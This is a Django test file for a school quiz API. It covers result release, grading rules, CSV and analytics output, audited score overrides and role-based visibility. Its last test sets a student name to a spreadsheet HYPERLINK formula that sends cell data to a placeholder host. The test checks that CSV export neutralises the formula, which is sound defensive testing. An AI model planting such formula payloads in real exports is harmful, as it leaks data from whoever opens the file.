"""Results through the API: release policies, the results table (JSON and CSV), grading rules,
item analytics on a crafted data set, overrides, and who sees which attempts."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from apps.academics.tests.factories import EnrollmentFactory
from apps.accounts.tests.factories import StudentFactory
from apps.core.models import AuditLog
from apps.quizzes.models import Attempt, Quiz

from .factories import save, start


def take(api, student_user, quiz, *pairs) -> dict:
    attempt = start(api, student_user, quiz)
    if pairs:
        assert save(api, student_user, attempt, *pairs).status_code == 200
    response = api(student_user).post(f"/api/v1/attempts/{attempt['id']}/submit/")
    assert response.status_code == 200
    return response.json()


# --- release policies -----------------------------------------------------------------------------
def test_after_close_results_show_once_the_quiz_has_closed(api, cast, make_quiz, Q):
    quiz = make_quiz(release_policy="after_close")
    body = take(api, cast.student.user, quiz, (Q.single, "b"))
    assert body["results_visible"] is False
    assert body["score"] is None and body["review"] is None
    assert body["answers"][Q.single["id"]] == "b"  # their own answers, not the marks
    results = api(cast.student.user).get(f"/api/v1/quizzes/{quiz['id']}/results/").json()
    assert results["rows"] == []
    # the teacher sees everything at once
    teacher = api(cast.teacher.user).get(f"/api/v1/attempts/{body['id']}/").json()
    assert teacher["score"] == "2.00" and teacher["review"][0]["correct_answer"] == "b"

    Quiz.objects.filter(pk=quiz["id"]).update(
        opens_at=timezone.now() - dt.timedelta(hours=2),
        closes_at=timezone.now() - dt.timedelta(minutes=1),
    )
    for user in (cast.student.user, cast.parent):
        shown = api(user).get(f"/api/v1/attempts/{body['id']}/").json()
        assert shown["score"] == "2.00"
        review = {r["question"]: r for r in shown["review"]}
        assert review[Q.single["id"]]["explanation"] == "Count on your fingers."


def test_manual_release(api, cast, make_quiz, Q):
    quiz = make_quiz(release_policy="manual", pass_mark="30")
    body = take(api, cast.student.user, quiz, (Q.single, "b"))
    take(api, cast.other_student.user, quiz, (Q.single, "a"))
    parent = api(cast.parent)
    assert parent.get(f"/api/v1/attempts/{body['id']}/").json()["score"] is None
    assert parent.get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"] == []

    assert api(cast.student.user).post(f"/api/v1/quizzes/{quiz['id']}/release/").status_code == 403
    response = api(cast.teacher.user).post(f"/api/v1/quizzes/{quiz['id']}/release/")
    assert response.status_code == 200 and response.json()["results_released"] is True
    assert AuditLog.objects.filter(action="quiz.release_results", object_id=quiz["id"]).exists()

    shown = parent.get(f"/api/v1/attempts/{body['id']}/").json()
    assert (shown["score"], shown["passed"]) == ("2.00", True)
    rows = parent.get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"]
    assert [r["name"] for r in rows] == ["Sam Student"]  # not Oscar: not her child
    rows = api(cast.student.user).get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"]
    assert [(r["name"], r["score"], r["percent"]) for r in rows] == [("Sam Student", "2.00", 33.33)]


# --- results table --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("rule", "expected"), [("highest", "6.00"), ("last", "2.00"), ("average", "4.00")]
)
def test_results_follow_the_grading_rule(api, cast, make_quiz, Q, rule, expected):
    quiz = make_quiz(attempts_allowed=3, grading_rule=rule, pass_mark="60")
    take(api, cast.student.user, quiz, (Q.single, "b"), (Q.multiple, ["a", "c"]), (Q.numeric, 3.14))
    take(api, cast.student.user, quiz, (Q.single, "b"))
    rows = api(cast.teacher.user).get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"]
    assert [(r["name"], r["attempts"], r["submitted"]) for r in rows] == [
        ("Sam Student", 2, 2),
        ("Oscar Other", 0, 0),
    ]
    assert rows[0]["score"] == expected and rows[0]["max_score"] == "6.00"
    assert rows[0]["passed"] is (rule != "last")
    assert rows[1]["score"] is None and rows[1]["passed"] is None


def test_results_as_csv(api, cast, make_quiz, Q):
    quiz = make_quiz()
    take(api, cast.student.user, quiz, (Q.single, "b"))
    response = api(cast.teacher.user).get(f"/api/v1/quizzes/{quiz['id']}/results/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().splitlines()
    assert lines[0] == "Algebra check"
    assert lines[2] == "5-A,1,Sam Student,1,1,2.00,6.00,33.33,"
    assert lines[3] == "5-A,2,Oscar Other,0,0,,,,"


# --- analytics ------------------------------------------------------------------------------------
def test_item_analytics_on_a_crafted_data_set(api, cast, school_year, make_quiz, Q):
    fourth = StudentFactory(school=cast.school, user__full_name="Fay Fourth")
    third = StudentFactory(school=cast.school, user__full_name="Tim Third")
    EnrollmentFactory(
        section=school_year.sec_a, student=third, roll_number=3, year=school_year.year
    )
    EnrollmentFactory(
        section=school_year.sec_a, student=fourth, roll_number=4, year=school_year.year
    )
    quiz = make_quiz()
    # 6/6, 3/6, 2/6, 0/6
    take(api, cast.student.user, quiz, (Q.single, "b"), (Q.multiple, ["a", "c"]), (Q.numeric, 3.14))
    take(api, cast.other_student.user, quiz, (Q.single, "b"), (Q.multiple, ["a"]), (Q.numeric, 3))
    take(api, third.user, quiz, (Q.single, "b"))
    take(api, fourth.user, quiz, (Q.single, "a"), (Q.multiple, ["b"]))

    response = api(cast.teacher.user).get(f"/api/v1/quizzes/{quiz['id']}/analytics/")
    assert response.status_code == 200
    body = response.json()
    assert body["attempts"] == 4 and body["mean_percent"] == 45.83
    assert {b["from"]: b["count"] for b in body["distribution"] if b["count"]} == {
        0: 1,
        30: 1,
        50: 1,
        90: 1,
    }
    single, multiple, numeric = body["questions"]
    # upper 27% of 4 = 1 student (6/6), lower = 1 student (0/6)
    assert (single["facility"], single["discrimination"]) == (0.75, 1.0)
    assert single["option_counts"] == {"a": 1, "b": 3}
    assert (multiple["facility"], multiple["discrimination"]) == (0.375, 1.0)
    assert multiple["option_counts"] == {"a": 2, "b": 1, "c": 1}
    assert (multiple["seen"], multiple["answered"]) == (4, 3)
    assert (numeric["facility"], numeric["discrimination"], numeric["answered"]) == (0.25, 1.0, 2)
    # students do not get analytics
    assert api(cast.student.user).get(f"/api/v1/quizzes/{quiz['id']}/analytics/").status_code == 403


# --- override -------------------------------------------------------------------------------------
def test_teacher_overrides_a_score_with_a_reason_and_it_is_audited(api, cast, make_quiz, Q):
    quiz = make_quiz()
    body = take(api, cast.student.user, quiz, (Q.single, "b"))
    url = f"/api/v1/attempts/{body['id']}/override/"
    teacher = api(cast.teacher.user)
    assert teacher.post(url, {"score": "9", "reason": "typo"}).status_code == 400  # above max
    assert teacher.post(url, {"score": "5", "reason": ""}).status_code == 400
    assert api(cast.student.user).post(url, {"score": "6", "reason": "me"}).status_code == 403

    response = teacher.post(url, {"score": "5", "reason": "Accepted the working on Q3"})
    assert response.status_code == 200
    assert response.json()["score"] == "5.00"
    entry = AuditLog.objects.get(action="quiz.attempt.override", object_id=body["id"])
    assert entry.actor == cast.teacher.user
    assert entry.before["score_override"] is None and entry.after["score_override"] == "5.00"
    assert entry.after["override_reason"] == "Accepted the working on Q3"
    shown = api(cast.student.user).get(f"/api/v1/attempts/{body['id']}/").json()
    assert (shown["score"], shown["override_reason"]) == ("5.00", "Accepted the working on Q3")
    assert Attempt.objects.get(pk=body["id"]).score == 2  # the graded score is kept

    running = start(api, cast.other_student.user, quiz)
    response = teacher.post(
        f"/api/v1/attempts/{running['id']}/override/", {"score": 1, "reason": "x"}
    )
    assert response.status_code == 400 and response.json()["error"]["code"] == "not_submitted"


# --- who sees which attempts -----------------------------------------------------------------------
def test_attempts_are_scoped(api, cast, school_year, make_quiz, Q):
    quiz = make_quiz(sections=[str(school_year.sec_a.pk)])
    sam = take(api, cast.student.user, quiz, (Q.single, "b"))
    oscar = take(api, cast.other_student.user, quiz)

    def listed(user):
        return {a["id"] for a in api(user).get("/api/v1/attempts/").json()["results"]}

    assert listed(cast.student.user) == {sam["id"]}
    assert listed(cast.parent) == {sam["id"]}
    assert listed(cast.teacher.user) == {sam["id"], oscar["id"]}
    assert listed(cast.admin) == {sam["id"], oscar["id"]}
    assert listed(school_year.vera.user) == set()
    assert listed(cast.admin2) == set()
    for user in (cast.other_student.user, school_year.vera.user, cast.admin2, cast.sibling.user):
        assert api(user).get(f"/api/v1/attempts/{sam['id']}/").status_code == 404
    assert api(cast.accountant.user).get("/api/v1/attempts/").status_code == 403
    assert (
        api(school_year.vera.user).get(f"/api/v1/quizzes/{quiz['id']}/results/").status_code == 404
    )


def test_attempt_list_runs_a_constant_number_of_queries(
    api, cast, make_quiz, Q, django_assert_max_num_queries, django_assert_num_queries
):
    quiz = make_quiz(attempts_allowed=5)
    take(api, cast.student.user, quiz)
    client = api(cast.teacher.user)
    with django_assert_max_num_queries(50) as one:
        assert client.get("/api/v1/attempts/").json()["count"] == 1
    queries = len(one)
    for _ in range(3):
        take(api, cast.student.user, quiz)
    take(api, cast.other_student.user, quiz)
    with django_assert_num_queries(queries):
        assert client.get("/api/v1/attempts/").json()["count"] == 5


def test_a_teacher_sees_only_their_own_students_in_a_colleagues_quiz(
    api, cast, school_year, make_quiz, Q
):
    quiz = make_quiz(
        actor=cast.admin, sections=[str(school_year.sec_a.pk), str(school_year.sec_b.pk)]
    )
    take(api, cast.student.user, quiz, (Q.single, "b"))
    sia = take(api, cast.sibling.user, quiz, (Q.single, "a"))
    vera = api(school_year.vera.user)
    assert [a["id"] for a in vera.get("/api/v1/attempts/").json()["results"]] == [sia["id"]]
    rows = vera.get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"]
    assert [r["name"] for r in rows] == ["Sia Student"]
    rows = api(cast.admin).get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"]
    assert [r["name"] for r in rows] == ["Sam Student", "Oscar Other", "Sia Student"]


def test_results_csv_neutralises_formula_cells(api, cast, make_quiz, Q):
    formula = '=HYPERLINK("https://x.example/?"&A2,"Report")'
    cast.student.user.full_name = formula
    cast.student.user.save()
    quiz = make_quiz(title="@Algebra")
    take(api, cast.student.user, quiz, (Q.single, "b"))
    response = api(cast.teacher.user).get(f"/api/v1/quizzes/{quiz['id']}/results/?format=csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table[0] == ["'@Algebra"]
    assert table[2][:3] == ["5-A", "1", "'" + formula]
    assert table[2][3:8] == ["1", "1", "2.00", "6.00", "33.33"]
